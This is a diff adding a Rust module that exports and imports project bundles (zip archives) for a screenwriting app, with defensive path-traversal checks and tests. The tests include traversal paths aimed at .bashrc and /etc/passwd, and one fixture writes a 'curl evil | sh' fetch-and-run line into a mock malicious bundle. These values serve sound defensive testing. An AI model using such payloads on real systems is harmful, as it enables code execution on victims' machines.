@@ -0,0 +1,891 @@
+//! Project Bundles — Move a whole project between machines
+//!
+//! A bundle is a single zip archive:
+//! - `manifest.json`: format version, project info and asset index
+//! - `script.json`: script title, content and version
+//! - `tokens.json`: every Vault token of the project
+//! - `edges.json`: relations between those tokens
+//! - `sync.loro`: snapshot of the project's own Loro document (optional)
+//! - `assets/…`: files referenced by tokens
+//!
+//! Cloud assets (http/https/data URLs) are downloaded into the archive too;
+//! ones that can't be fetched stay references. Imports always create a new
+//! project and remap internal references.
+
+use serde::{Deserialize, Serialize};
+use specta::Type;
+use std::collections::HashMap;
+use std::io::{Read, Seek, Write};
+use std::path::{Component, Path, PathBuf};
+use std::time::Duration;
+use surrealdb::engine::any::Any;
+use surrealdb::Surreal;
+use zip::write::SimpleFileOptions;
+
+use super::assets::project_assets_dir;
+use super::models::{Project, Script};
+use super::tokens::{link_tokens, token_graph, Token, TokenEdge};
+use crate::sync::{project_doc_path, SyncEngine};
+
+/// Current bundle format (bumped on breaking layout changes)
+pub const BUNDLE_FORMAT_VERSION: u32 = 1;
+
+/// File extension of bundles (a zip archive)
+pub const BUNDLE_EXTENSION: &str = "cinemaos";
+
+const MANIFEST_FILE: &str = "manifest.json";
+const SCRIPT_FILE: &str = "script.json";
+const TOKENS_FILE: &str = "tokens.json";
+const EDGES_FILE: &str = "edges.json";
+const SYNC_FILE: &str = "sync.loro";
+const ASSETS_DIR: &str = "assets/";
+
+/// Longest a cloud asset download may take
+const ASSET_DOWNLOAD_TIMEOUT: Duration = Duration::from_secs(60);
+
+/// Largest cloud asset downloaded into a bundle
+const MAX_ASSET_BYTES: usize = 500 * 1024 * 1024;
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// TYPES
+// ═══════════════════════════════════════════════════════════════════════════════
+
+/// Bundle manifest
+#[derive(Debug, Clone, Serialize, Deserialize, Type)]
+pub struct BundleManifest {
+    pub format_version: u32,
+    pub app_version: String,
+    pub exported_at: String,
+    pub project: BundleProject,
+    pub token_count: u32,
+    pub assets: Vec<BundleAsset>,
+    pub has_sync_snapshot: bool,
+}
+
+/// Project info, without database ids
+#[derive(Debug, Clone, Serialize, Deserialize, Type)]
+pub struct BundleProject {
+    pub title: String,
+    pub author: String,
+    pub created_at: String,
+}
+
+/// Script contents, without database ids
+#[derive(Debug, Clone, Serialize, Deserialize, Type)]
+pub struct BundleScript {
+    pub title: String,
+    pub content: String,
+    pub version: u32,
+}
+
+/// An asset referenced by a token
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, Type)]
+pub struct BundleAsset {
+    /// Reference as stored in the token (path or URL)
+    pub source: String,
+    /// Path inside the archive; `None` for assets kept as references
+    /// because they couldn't be read or downloaded
+    pub archive_path: Option<String>,
+}
+
+/// Everything stored in a bundle
+#[derive(Debug, Clone)]
+pub struct BundleContents {
+    pub manifest: BundleManifest,
+    pub script: Option<BundleScript>,
+    pub tokens: Vec<Token>,
+    pub edges: Vec<TokenEdge>,
+    /// Archive path -> file bytes
+    pub asset_files: HashMap<String, Vec<u8>>,
+    pub sync_snapshot: Option<Vec<u8>>,
+}
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// ARCHIVE
+// ═══════════════════════════════════════════════════════════════════════════════
+
+fn is_remote(source: &str) -> bool {
+    source.starts_with("http://") || source.starts_with("https://") || source.starts_with("data:")
+}
+
+fn local_path(source: &str) -> &str {
+    source.strip_prefix("file://").unwrap_or(source)
+}
+
+/// File name for an asset: the last path segment, or `asset.<type>` for data URLs
+fn asset_file_name(source: &str) -> String {
+    if let Some(data) = source.strip_prefix("data:") {
+        let mime = data.split([';', ',']).next().unwrap_or_default();
+        let ext = mime.rsplit('/').next().filter(|e| !e.is_empty());
+        return format!("asset.{}", ext.unwrap_or("bin"));
+    }
+
+    let path = if is_remote(source) {
+        source.split(['?', '#']).next().unwrap_or(source)
+    } else {
+        local_path(source)
+    };
+    path.rsplit(['/', '\\'])
+        .next()
+        .filter(|name| !name.is_empty() && !name.contains(':'))
+        .unwrap_or("asset")
+        .to_string()
+}
+
+/// Bytes of an asset: a local file, a download, or a decoded data URL
+async fn read_asset(source: &str) -> Result<Vec<u8>, String> {
+    use base64::{engine::general_purpose::STANDARD, Engine as _};
+
+    if let Some(data) = source.strip_prefix("data:") {
+        let (meta, payload) = data.split_once(',').ok_or("Malformed data URL")?;
+        return if meta.ends_with(";base64") {
+            STANDARD.decode(payload).map_err(|e| e.to_string())
+        } else {
+            Ok(payload.as_bytes().to_vec())
+        };
+    }
+    if is_remote(source) {
+        return download(source, MAX_ASSET_BYTES).await;
+    }
+    std::fs::read(local_path(source)).map_err(|e| e.to_string())
+}
+
+/// Download `url`, failing once it exceeds `max_bytes`
+async fn download(url: &str, max_bytes: usize) -> Result<Vec<u8>, String> {
+    use futures_util::StreamExt;
+
+    let too_large = || format!("{} is larger than {} bytes", url, max_bytes);
+    let client = reqwest::Client::builder()
+        .timeout(ASSET_DOWNLOAD_TIMEOUT)
+        .build()
+        .map_err(|e| e.to_string())?;
+    let response = client
+        .get(url)
+        .send()
+        .await
+        .and_then(|r| r.error_for_status())
+        .map_err(|e| e.to_string())?;
+    if response
+        .content_length()
+        .is_some_and(|len| len > max_bytes as u64)
+    {
+        return Err(too_large());
+    }
+
+    // The declared length may be missing or wrong, so count as we go
+    let mut bytes = Vec::new();
+    let mut chunks = response.bytes_stream();
+    while let Some(chunk) = chunks.next().await {
+        let chunk = chunk.map_err(|e| e.to_string())?;
+        if bytes.len() + chunk.len() > max_bytes {
+            return Err(too_large());
+        }
+        bytes.extend_from_slice(&chunk);
+    }
+    Ok(bytes)
+}
+
+/// File name of an archived asset: the single component after `assets/`
+///
+/// Manifests come from other machines, so anything else (`..`, absolute
+/// paths, nested directories) is refused rather than written.
+fn archived_file_name(archive_path: &str) -> Result<&str, String> {
+    let invalid = || format!("Invalid asset path in bundle: {}", archive_path);
+    let rest = archive_path.strip_prefix(ASSETS_DIR).ok_or_else(invalid)?;
+    if rest.contains('\\') {
+        return Err(invalid());
+    }
+
+    let mut components = Path::new(rest).components();
+    match (components.next(), components.next()) {
+        (Some(Component::Normal(name)), None) => name.to_str().ok_or_else(invalid),
+        _ => Err(invalid()),
+    }
+}
+
+/// Where to restore an archived asset, guaranteed to be inside `assets_dir`
+fn restore_path(assets_dir: &Path, archive_path: &str) -> Result<PathBuf, String> {
+    let file_name = archived_file_name(archive_path)?;
+    std::fs::create_dir_all(assets_dir).map_err(|e| e.to_string())?;
+    let dir = assets_dir.canonicalize().map_err(|e| e.to_string())?;
+    let target = dir.join(file_name);
+
+    // An existing symlink would redirect the write
+    let escapes = match std::fs::symlink_metadata(&target) {
+        Ok(meta) => meta.file_type().is_symlink(),
+        Err(_) => false,
+    };
+    if escapes || target.parent() != Some(dir.as_path()) {
+        return Err(format!("Invalid asset path in bundle: {}", archive_path));
+    }
+    Ok(target)
+}
+
+/// Index the assets referenced by tokens, each with an archive path
+pub fn collect_assets(tokens: &[Token]) -> Vec<BundleAsset> {
+    let mut assets: Vec<BundleAsset> = Vec::new();
+
+    for source in tokens.iter().flat_map(|t| t.visual_refs.iter()) {
+        if assets.iter().any(|a| &a.source == source) {
+            continue;
+        }
+
+        let archive_path = format!("{}{}_{}", ASSETS_DIR, assets.len(), asset_file_name(source));
+        assets.push(BundleAsset {
+            source: source.clone(),
+            archive_path: Some(archive_path),
+        });
+    }
+
+    assets
+}
+
+fn to_json<T: Serialize>(value: &T) -> Result<Vec<u8>, String> {
+    serde_json::to_vec_pretty(value).map_err(|e| e.to_string())
+}
+
+/// Write a bundle archive
+pub fn write_bundle<W: Write + Seek>(writer: W, contents: &BundleContents) -> Result<W, String> {
+    let mut zip = zip::ZipWriter::new(writer);
+    let options = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+
+    let mut add = |name: &str, bytes: &[u8]| -> Result<(), String> {
+        zip.start_file(name, options).map_err(|e| e.to_string())?;
+        zip.write_all(bytes).map_err(|e| e.to_string())
+    };
+
+    add(MANIFEST_FILE, &to_json(&contents.manifest)?)?;
+    if let Some(script) = &contents.script {
+        add(SCRIPT_FILE, &to_json(script)?)?;
+    }
+    add(TOKENS_FILE, &to_json(&contents.tokens)?)?;
+    add(EDGES_FILE, &to_json(&contents.edges)?)?;
+    if let Some(snapshot) = &contents.sync_snapshot {
+        add(SYNC_FILE, snapshot)?;
+    }
+    for (path, bytes) in &contents.asset_files {
+        add(path, bytes)?;
+    }
+
+    zip.finish().map_err(|e| e.to_string())
+}
+
+/// Read a bundle archive
+pub fn read_bundle<R: Read + Seek>(reader: R) -> Result<BundleContents, String> {
+    let mut archive = zip::ZipArchive::new(reader).map_err(|e| e.to_string())?;
+
+    let mut read_file = |name: &str| -> Result<Option<Vec<u8>>, String> {
+        let mut file = match archive.by_name(name) {
+            Ok(file) => file,
+            Err(zip::result::ZipError::FileNotFound) => return Ok(None),
+            Err(e) => return Err(e.to_string()),
+        };
+        let mut bytes = Vec::new();
+        file.read_to_end(&mut bytes).map_err(|e| e.to_string())?;
+        Ok(Some(bytes))
+    };
+
+    let manifest: BundleManifest = serde_json::from_slice(
+        &read_file(MANIFEST_FILE)?.ok_or("Not a CinemaOS bundle: missing manifest")?,
+    )
+    .map_err(|e| format!("Invalid manifest: {}", e))?;
+
+    if manifest.format_version > BUNDLE_FORMAT_VERSION {
+        return Err(format!(
+            "Bundle format v{} is newer than supported v{}",
+            manifest.format_version, BUNDLE_FORMAT_VERSION
+        ));
+    }
+
+    let script = read_file(SCRIPT_FILE)?
+        .map(|bytes| serde_json::from_slice(&bytes))
+        .transpose()
+        .map_err(|e| format!("Invalid script: {}", e))?;
+
+    let tokens = read_file(TOKENS_FILE)?
+        .map(|bytes| serde_json::from_slice(&bytes))
+        .transpose()
+        .map_err(|e| format!("Invalid tokens: {}", e))?
+        .unwrap_or_default();
+
+    // Bundles from before token relations have no edges file
+    let edges = read_file(EDGES_FILE)?
+        .map(|bytes| serde_json::from_slice(&bytes))
+        .transpose()
+        .map_err(|e| format!("Invalid edges: {}", e))?
+        .unwrap_or_default();
+
+    let sync_snapshot = read_file(SYNC_FILE)?;
+
+    let mut asset_files = HashMap::new();
+    for path in manifest
+        .assets
+        .iter()
+        .filter_map(|a| a.archive_path.as_ref())
+    {
+        archived_file_name(path)?;
+        if let Some(bytes) = read_file(path)? {
+            asset_files.insert(path.clone(), bytes);
+        }
+    }
+
+    Ok(BundleContents {
+        manifest,
+        script,
+        tokens,
+        edges,
+        asset_files,
+        sync_snapshot,
+    })
+}
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// REMAPPING
+// ═══════════════════════════════════════════════════════════════════════════════
+
+/// Prepare tokens for insertion under a new project.
+///
+/// `asset_paths` maps original asset sources to their restored location.
+pub fn remap_tokens(
+    tokens: Vec<Token>,
+    project_id: &str,
+    asset_paths: &HashMap<String, String>,
+) -> Vec<Token> {
+    tokens
+        .into_iter()
+        .map(|mut token| {
+            token.id = None;
+            token.project_id = project_id.to_string();
+            token.visual_refs = token
+                .visual_refs
+                .into_iter()
+                .map(|source| asset_paths.get(&source).cloned().unwrap_or(source))
+                .collect();
+            token
+        })
+        .collect()
+}
+
+/// Replace old ids with new ones in free text (e.g. token ids in script JSON)
+pub fn remap_references(text: &str, ids: &HashMap<String, String>) -> String {
+    // Longest ids first so `token:ab` never clobbers part of `token:abc`
+    let mut pairs: Vec<(&String, &String)> = ids.iter().collect();
+    pairs.sort_by_key(|(old, _)| std::cmp::Reverse(old.len()));
+
+    pairs.into_iter().fold(text.to_string(), |acc, (old, new)| {
+        acc.replace(old.as_str(), new)
+    })
+}
+
+// ═══════════════════════════════════════════════════════════════════════════════
+// EXPORT / IMPORT
+// ═══════════════════════════════════════════════════════════════════════════════
+
+async fn db() -> Result<Surreal<Any>, String> {
+    super::get_db()
+        .await
+        .ok_or_else(|| "Vault not initialized".to_string())
+}
+
+/// Export a project (script, tokens, assets, sync snapshot) to `path`
+pub async fn export_project(project_id: &str, path: &Path) -> Result<BundleManifest, String> {
+    export_from(&db().await?, project_id, path).await
+}
+
+async fn export_from(
+    db: &Surreal<Any>,
+    project_id: &str,
+    path: &Path,
+) -> Result<BundleManifest, String> {
+    let mut result = db
+        .query("SELECT * FROM type::thing($pid)")
+        .bind(("pid", project_id.to_string()))
+        .await
+        .map_err(|e| e.to_string())?;
+    let project: Option<Project> = result.take(0).map_err(|e| e.to_string())?;
+    let project = project.ok_or_else(|| format!("Project not found: {}", project_id))?;
+
+    let mut result = db
+        .query("SELECT * FROM script WHERE project_id = type::thing($pid)")
+        .bind(("pid", project_id.to_string()))
+        .await
+        .map_err(|e| e.to_string())?;
+    let script: Option<Script> = result.take(0).map_err(|e| e.to_string())?;
+
+    let graph = token_graph(db, project_id).await?;
+    let tokens = graph.nodes;
+
+    // Unreadable files and failed downloads degrade to references
+    let mut assets = collect_assets(&tokens);
+    let mut asset_files = HashMap::new();
+    for asset in &mut assets {
+        let Some(archive_path) = asset.archive_path.clone() else {
+            continue;
+        };
+        match read_asset(&asset.source).await {
+            Ok(bytes) => {
+                asset_files.insert(archive_path, bytes);
+            }
+            Err(e) => {
+                tracing::warn!("Bundling {} as reference only: {}", asset.source, e);
+                asset.archive_path = None;
+            }
+        }
+    }
+
+    let sync_snapshot = project_snapshot(&project_doc_path(project_id))?;
+
+    let contents = BundleContents {
+        manifest: BundleManifest {
+            format_version: BUNDLE_FORMAT_VERSION,
+            app_version: env!("CARGO_PKG_VERSION").to_string(),
+            exported_at: chrono::Utc::now().to_rfc3339(),
+            project: BundleProject {
+                title: project.title,
+                author: project.author,
+                created_at: project.created_at,
+            },
+            token_count: tokens.len() as u32,
+            assets,
+            has_sync_snapshot: sync_snapshot.is_some(),
+        },
+        script: script.map(|s| BundleScript {
+            title: s.title,
+            content: s.content,
+            version: s.version,
+        }),
+        tokens,
+        edges: graph.edges,
+        asset_files,
+        sync_snapshot,
+    };
+
+    let file = std::fs::File::create(path).map_err(|e| e.to_string())?;
+    write_bundle(file, &contents)?;
+
+    Ok(contents.manifest)
+}
+
+/// Snapshot of the project's document at `path`, if it has one
+fn project_snapshot(path: &Path) -> Result<Option<Vec<u8>>, String> {
+    if !path.exists() {
+        return Ok(None);
+    }
+    let mut engine = SyncEngine::at(path.to_path_buf());
+    engine
+        .load_from_disk(&path.display().to_string())
+        .map_err(|e| format!("Failed to load {}: {}", path.display(), e))?;
+    engine.snapshot().map(Some)
+}
+
+/// Write a bundled snapshot as the new project's document at `path`
+///
+/// It goes into a fresh document, never one that is open for editing.
+fn restore_snapshot(path: &Path, snapshot: &[u8]) -> Result<(), String> {
+    let engine = SyncEngine::at(path.to_path_buf());
+    engine.doc.import(snapshot).map_err(|e| e.to_string())?;
+    engine
+        .save_to_disk(&path.display().to_string())
+        .map_err(|e| e.to_string())
+}
+
+/// Import a bundle as a new project
+pub async fn import_project(path: &Path) -> Result<Project, String> {
+    import_into(&db().await?, path).await
+}
+
+async fn import_into(db: &Surreal<Any>, path: &Path) -> Result<Project, String> {
+    let file = std::fs::File::open(path).map_err(|e| e.to_string())?;
+    let contents = read_bundle(file)?;
+
+    let now = chrono::Utc::now().to_rfc3339();
+    let project: Option<Project> = db
+        .create("project")
+        .content(Project {
+            id: None,
+            title: contents.manifest.project.title.clone(),
+            author: contents.manifest.project.author.clone(),
+            created_at: contents.manifest.project.created_at.clone(),
+            updated_at: now,
+        })
+        .await
+        .map_err(|e| e.to_string())?;
+    let project = project.ok_or("Failed to create project")?;
+    let project_thing = project.id.clone().ok_or("Created project has no id")?;
+    let project_id = project_thing.to_string();
+
+    // Restore bundled files; cloud assets keep their URL
+    let assets_dir = project_assets_dir(&project_id);
+    let mut asset_paths = HashMap::new();
+    for asset in &contents.manifest.assets {
+        let Some(archive_path) = &asset.archive_path else {
+            continue;
+        };
+        let Some(bytes) = contents.asset_files.get(archive_path) else {
+            continue;
+        };
+        let target = restore_path(&assets_dir, archive_path)?;
+        std::fs::write(&target, bytes).map_err(|e| e.to_string())?;
+        asset_paths.insert(asset.source.clone(), target.display().to_string());
+    }
+
+    // Recreate tokens, remembering old -> new ids for the script
+    let old_ids: Vec<Option<String>> = contents.tokens.iter().map(|t| t.id.clone()).collect();
+    let mut token_ids = HashMap::new();
+    for (old_id, token) in
+        old_ids
+            .into_iter()
+            .zip(remap_tokens(contents.tokens, &project_id, &asset_paths))
+    {
+        let created: Option<Token> = db
+            .create("token")
+            .content(token)
+            .await
+            .map_err(|e| e.to_string())?;
+        if let (Some(old), Some(new)) = (old_id, created.and_then(|t| t.id)) {
+            token_ids.insert(old, new);
+        }
+    }
+
+    for edge in &contents.edges {
+        let (Some(from), Some(to)) = (token_ids.get(&edge.from), token_ids.get(&edge.to)) else {
+            continue;
+        };
+        if let Err(e) = link_tokens(db, from, edge.relation, to).await {
+            tracing::warn!("Skipping token relation {} -> {}: {}", from, to, e);
+        }
+    }
+
+    if let Some(script) = contents.script {
+        let _: Option<Script> = db
+            .create("script")
+            .content(Script {
+                id: None,
+                project_id: project_thing,
+                title: script.title,
+                content: remap_references(&script.content, &token_ids),
+                version: script.version,
+            })
+            .await
+            .map_err(|e| e.to_string())?;
+    }
+
+    if let Some(snapshot) = contents.sync_snapshot {
+        if let Err(e) = restore_snapshot(&project_doc_path(&project_id), &snapshot) {
+            tracing::warn!("Failed to restore sync snapshot: {}", e);
+        }
+    }
+
+    Ok(project)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::vault::tokens::{TokenRelation, TokenType};
+    use std::io::Cursor;
+
+    fn token(id: &str, name: &str, visual_refs: &[&str]) -> Token {
+        let mut token = Token::new(
+            "project:old".into(),
+            TokenType::Character,
+            name.into(),
+            format!("{} description", name),
+        );
+        token.id = Some(id.into());
+        token.visual_refs = visual_refs.iter().map(|s| s.to_string()).collect();
+        token
+    }
+
+    #[test]
+    fn test_collect_assets_bundles_cloud_refs_as_files() {
+        let tokens = vec![
+            token(
+                "token:anna",
+                "Anna",
+                &["/tmp/anna.png", "https://cdn/anna.png?size=large"],
+            ),
+            token(
+                "token:bob",
+                "Bob",
+                &["/tmp/anna.png", "data:image/webp;base64,AAAA"],
+            ),
+        ];
+
+        let assets = collect_assets(&tokens);
+        let paths: Vec<_> = assets
+            .iter()
+            .map(|a| a.archive_path.as_deref().unwrap())
+            .collect();
+        assert_eq!(
+            paths,
+            [
+                "assets/0_anna.png",
+                "assets/1_anna.png",
+                "assets/2_asset.webp"
+            ]
+        );
+    }
+
+    #[tokio::test]
+    async fn test_read_data_url_asset() {
+        assert_eq!(
+            read_asset("data:image/png;base64,AQID").await.unwrap(),
+            [1, 2, 3]
+        );
+        assert_eq!(read_asset("data:text/plain,hi").await.unwrap(), b"hi");
+    }
+
+    /// Serve one HTTP response with `body`, without a Content-Length
+    async fn serve_once(body: Vec<u8>) -> String {
+        use tokio::io::{AsyncReadExt, AsyncWriteExt};
+
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let addr = listener.local_addr().unwrap();
+        tokio::spawn(async move {
+            let (mut socket, _) = listener.accept().await.unwrap();
+            let mut request = [0u8; 1024];
+            let _ = socket.read(&mut request).await;
+            let head = "HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n";
+            let _ = socket.write_all(head.as_bytes()).await;
+            let _ = socket.write_all(&body).await;
+        });
+        format!("http://{}/asset.png", addr)
+    }
+
+    #[tokio::test]
+    async fn test_download_enforces_size_limit() {
+        let url = serve_once(vec![7; 2048]).await;
+        let error = download(&url, 1024).await.unwrap_err();
+        assert!(error.contains("larger than 1024 bytes"), "{}", error);
+
+        let url = serve_once(vec![7; 512]).await;
+        assert_eq!(download(&url, 1024).await.unwrap().len(), 512);
+    }
+
+    #[test]
+    fn test_bundle_round_trip() {
+        let tokens = vec![
+            token("token:anna", "Anna", &["/tmp/anna.png"]),
+            token("token:bar", "Bar", &["https://cdn/bar.png"]),
+            token("token:gun", "Revolver", &[]),
+        ];
+        let assets = collect_assets(&tokens);
+        let script_content =
+            r#"{"root":{"children":[{"text":"INT. BAR - NIGHT","token":"token:anna"}]}}"#;
+
+        let contents = BundleContents {
+            manifest: BundleManifest {
+                format_version: BUNDLE_FORMAT_VERSION,
+                app_version: "0.1.0".into(),
+                exported_at: "2025-12-01T00:00:00Z".into(),
+                project: BundleProject {
+                    title: "Noir".into(),
+                    author: "Mozzzie".into(),
+                    created_at: "2025-11-01T00:00:00Z".into(),
+                },
+                token_count: tokens.len() as u32,
+                assets,
+                has_sync_snapshot: true,
+            },
+            script: Some(BundleScript {
+                title: "Noir".into(),
+                content: script_content.into(),
+                version: 3,
+            }),
+            tokens,
+            edges: vec![TokenEdge {
+                from: "token:gun".into(),
+                relation: TokenRelation::OwnedBy,
+                to: "token:anna".into(),
+            }],
+            asset_files: HashMap::from([("assets/0_anna.png".to_string(), vec![1, 2, 3])]),
+            sync_snapshot: Some(vec![9, 9, 9]),
+        };
+
+        let archive = write_bundle(Cursor::new(Vec::new()), &contents).unwrap();
+        let restored = read_bundle(Cursor::new(archive.into_inner())).unwrap();
+
+        assert_eq!(restored.tokens.len(), 3);
+        assert_eq!(restored.manifest.token_count, 3);
+        assert_eq!(restored.edges, contents.edges);
+        let script = restored.script.unwrap();
+        assert_eq!(script.content, script_content);
+        assert_eq!(script.version, 3);
+        assert_eq!(restored.asset_files["assets/0_anna.png"], vec![1, 2, 3]);
+        assert_eq!(restored.sync_snapshot, Some(vec![9, 9, 9]));
+
+        // Remap under a new project
+        let asset_paths = HashMap::from([(
+            "/tmp/anna.png".to_string(),
+            "/data/projects/new/assets/0_anna.png".to_string(),
+        )]);
+        let remapped = remap_tokens(restored.tokens, "project:new", &asset_paths);
+        assert!(remapped.iter().all(|t| t.id.is_none()));
+        assert!(remapped.iter().all(|t| t.project_id == "project:new"));
+        assert_eq!(
+            remapped[0].visual_refs,
+            vec!["/data/projects/new/assets/0_anna.png"]
+        );
+        // A download that failed at export keeps its URL
+        assert_eq!(remapped[1].visual_refs, vec!["https://cdn/bar.png"]);
+
+        let ids = HashMap::from([("token:anna".to_string(), "token:x1".to_string())]);
+        assert!(remap_references(&script.content, &ids).contains("\"token\":\"token:x1\""));
+    }
+
+    #[test]
+    fn test_rejects_non_bundle() {
+        let archive = {
+            let mut zip = zip::ZipWriter::new(Cursor::new(Vec::new()));
+            zip.start_file("readme.txt", SimpleFileOptions::default())
+                .unwrap();
+            zip.write_all(b"hello").unwrap();
+            zip.finish().unwrap()
+        };
+        assert!(read_bundle(Cursor::new(archive.into_inner())).is_err());
+    }
+
+    #[test]
+    fn test_rejects_asset_paths_outside_assets_dir() {
+        let malicious = [
+            "assets/../../.bashrc",
+            "assets/../manifest.json",
+            "assets//etc/passwd",
+            "/etc/passwd",
+            "assets/nested/file.png",
+            "assets/..\\..\\evil.dll",
+            "assets/",
+            "script.json",
+        ];
+        for path in malicious {
+            assert!(archived_file_name(path).is_err(), "accepted {}", path);
+        }
+        assert_eq!(
+            archived_file_name("assets/0_anna.png").unwrap(),
+            "0_anna.png"
+        );
+
+        let dir = std::env::temp_dir().join(format!("cinemaos-assets-{}", uuid::Uuid::new_v4()));
+        let target = restore_path(&dir, "assets/0_anna.png").unwrap();
+        assert_eq!(target.parent(), Some(dir.canonicalize().unwrap().as_path()));
+        assert!(restore_path(&dir, "assets/../../.bashrc").is_err());
+        std::fs::remove_dir_all(&dir).ok();
+    }
+
+    #[test]
+    fn test_read_bundle_rejects_malicious_manifest() {
+        let mut contents = BundleContents {
+            manifest: BundleManifest {
+                format_version: BUNDLE_FORMAT_VERSION,
+                app_version: "0.1.0".into(),
+                exported_at: "2025-12-01T00:00:00Z".into(),
+                project: BundleProject {
+                    title: "Trojan".into(),
+                    author: "Mallory".into(),
+                    created_at: "2025-11-01T00:00:00Z".into(),
+                },
+                token_count: 0,
+                assets: vec![BundleAsset {
+                    source: "/tmp/x.png".into(),
+                    archive_path: Some("assets/../../.bashrc".into()),
+                }],
+                has_sync_snapshot: false,
+            },
+            script: None,
+            tokens: Vec::new(),
+            edges: Vec::new(),
+            asset_files: HashMap::new(),
+            sync_snapshot: None,
+        };
+        contents
+            .asset_files
+            .insert("assets/../../.bashrc".into(), b"curl evil | sh".to_vec());
+
+        let archive = write_bundle(Cursor::new(Vec::new()), &contents).unwrap();
+        let error = read_bundle(Cursor::new(archive.into_inner())).unwrap_err();
+        assert!(error.contains("Invalid asset path"), "{}", error);
+    }
+
+    #[test]
+    fn test_snapshot_restores_into_its_own_document() {
+        let dir = std::env::temp_dir().join(format!("cinemaos-bundle-{}", uuid::Uuid::new_v4()));
+        let source = dir.join("source.loro");
+        let target = dir.join("target.loro");
+        assert_eq!(project_snapshot(&source).unwrap(), None);
+
+        let mut engine = SyncEngine::at(source.clone());
+        engine
+            .edit(|doc| doc.get_text("script").insert(0, "INT. BAR").unwrap())
+            .unwrap();
+        engine.save_to_disk(source.to_str().unwrap()).unwrap();
+
+        let snapshot = project_snapshot(&source).unwrap().unwrap();
+        restore_snapshot(&target, &snapshot).unwrap();
+        let mut restored = SyncEngine::at(target.clone());
+        restored.load_from_disk(target.to_str().unwrap()).unwrap();
+        assert_eq!(restored.doc.get_text("script").to_string(), "INT. BAR");
+
+        std::fs::remove_dir_all(&dir).ok();
+    }
+
+    #[tokio::test]
+    async fn test_export_then_import_keeps_tokens_and_script() {
+        let db = surrealdb::engine::any::connect("mem://").await.unwrap();
+        db.use_ns("test").use_db("test").await.unwrap();
+
+        let image =
+            std::env::temp_dir().join(format!("cinemaos-bundle-{}.png", uuid::Uuid::new_v4()));
+        std::fs::write(&image, [1, 2, 3]).unwrap();
+        let script_content = r#"{"root":{"children":[{"text":"INT. BAR - NIGHT"}]}}"#;
+        db.query(
+            "CREATE project:noir SET title = 'Noir', author = 'Mozzzie', \
+                 created_at = '2025-11-01T00:00:00Z', updated_at = '2025-11-01T00:00:00Z'; \
+             CREATE script SET project_id = project:noir, title = 'Noir', \
+                 content = $content, version = 3;",
+        )
+        .bind(("content", script_content))
+        .await
+        .unwrap();
+        let mut anna = token("token:anna", "Anna", &[&image.display().to_string()]);
+        anna.id = None;
+        anna.project_id = "project:noir".into();
+        let mut gun = token("token:gun", "Revolver", &[]);
+        gun.id = None;
+        gun.project_id = "project:noir".into();
+        gun.token_type = TokenType::Prop;
+        let anna: Option<Token> = db.create("token").content(anna).await.unwrap();
+        let gun: Option<Token> = db.create("token").content(gun).await.unwrap();
+        link_tokens(
+            &db,
+            &gun.unwrap().id.unwrap(),
+            TokenRelation::OwnedBy,
+            &anna.unwrap().id.unwrap(),
+        )
+        .await
+        .unwrap();
+
+        let bundle = image.with_extension(BUNDLE_EXTENSION);
+        let manifest = export_from(&db, "project:noir", &bundle).await.unwrap();
+        assert_eq!(manifest.token_count, 2);
+        assert!(manifest.assets[0].archive_path.is_some());
+
+        let project = import_into(&db, &bundle).await.unwrap();
+        let project_id = project.id.unwrap().to_string();
+        assert_ne!(project_id, "project:noir");
+
+        let graph = token_graph(&db, &project_id).await.unwrap();
+        assert_eq!(graph.nodes.len(), 2);
+        assert_eq!(graph.edges.len(), 1);
+        let mut result = db
+            .query("SELECT VALUE content FROM script WHERE project_id = type::thing($pid)")
+            .bind(("pid", project_id))
+            .await
+            .unwrap();
+        let contents: Vec<String> = result.take(0).unwrap();
+        assert_eq!(contents, [script_content]);
+
+        std::fs::remove_file(&image).ok();
+        std::fs::remove_file(&bundle).ok();
+    }
+}